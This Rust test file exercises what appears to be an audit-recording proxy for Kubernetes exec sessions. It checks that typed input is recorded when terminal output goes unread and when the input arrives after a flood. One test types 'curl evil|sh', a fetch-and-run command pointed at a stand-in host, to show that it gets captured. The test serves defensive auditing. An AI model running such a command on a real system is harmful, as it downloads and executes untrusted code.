//! What is sent and shown nowhere: on a terminal whose output nobody takes, and behind a flood.

use std::io::Write as _;
use std::process::Stdio;
use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use wire::recording::RecordingMode;

use super::taped;
use super::world::{self, Tapes, World};

#[test]
fn what_is_typed_on_a_terminal_whose_output_nobody_asked_for_is_recorded() {
    let api = testkit::KubeApi::start("the-service-account");
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
    runtime.block_on(types_unseen(&api));
}

async fn types_unseen(api: &testkit::KubeApi) {
    let folder = tempfile::tempdir().unwrap();
    let tapes = Tapes::new(RecordingMode::Required, false);
    let (proxy, _) = world::proxy(&api.address(), &api.authority, folder.path(), &tapes);
    let (mut client, server) = tokio::io::duplex(64 * 1_024);
    let serving = tokio::spawn(Arc::clone(&proxy).serve(server, None, tokio_util::sync::CancellationToken::new()));
    let ask = "GET /api/v1/namespaces/a/pods/web/exec?command=head&command=-n1&stdin=true&tty=true HTTP/1.1\r\nHost: localhost\r\n\
        Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
        Sec-WebSocket-Protocol: v5.channel.k8s.io\r\nAuthorization: Bearer ann.edit\r\n\r\n";
    client.write_all(ask.as_bytes()).await.unwrap();
    let mut came = vec![0; 12];
    client.read_exact(&mut came).await.unwrap();
    assert_eq!(came, b"HTTP/1.1 101");
    let typed = b"curl evil|sh\n";
    let frame = [&[0x82, 0x80 | (1 + u8::try_from(typed.len()).unwrap()), 0, 0, 0, 0, 0][..], typed].concat();
    client.write_all(&frame).await.unwrap();
    // The command ends with the line: until then it was passed on, so it was recorded.
    while !came.windows(7).any(|word| word == b"Success") {
        assert!(client.read_buf(&mut came).await.unwrap() > 0, "{}", String::from_utf8_lossy(&came));
    }
    drop(client);
    serving.await.unwrap();
    while tapes.done.lock().unwrap().is_empty() {
        tokio::task::yield_now().await;
    }
    let done = tapes.done.lock().unwrap();
    assert!(done[0].text.contains("\"i\", \"curl evil|sh\\n\"]"), "{}", done[0].text);
    assert!(!done[0].about.target.is_tty() && done[0].summary.input_sha256 == Some(crypto::sha256(typed)));
}

#[test]
fn a_command_behind_a_flood_of_input_is_recorded_or_the_recording_says_that_it_is_not_complete() {
    for (mode, whole) in [(RecordingMode::Required, true), (RecordingMode::BestEffort, false)] {
        let world = World::recording(mode, false);
        let mut kubectl = world.kubectl("alice.edit", &["exec", "-i", "-n", "a", "web", "--", "sh"]);
        let mut child = kubectl.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
        let flood = format!("{}\n", "#".repeat(127)).repeat(3 << 13);
        let sent = [flood.as_bytes(), b"true from nowhere\n"].concat();
        child.stdin.take().unwrap().write_all(&sent).unwrap();
        assert!(child.wait().unwrap().success());
        let recorded = taped(&world, 1);
        let world::Taped { text, summary, .. } = &recorded[0];
        assert_eq!((text.contains("true from nowhere"), summary.complete), (whole, whole), "{summary:?}");
        assert_eq!(summary.reason.contains("bytes that were sent are not in the recording"), !whole, "{summary:?}");
        assert_eq!(summary.input_sha256, Some(crypto::sha256(&sent)));
    }
}
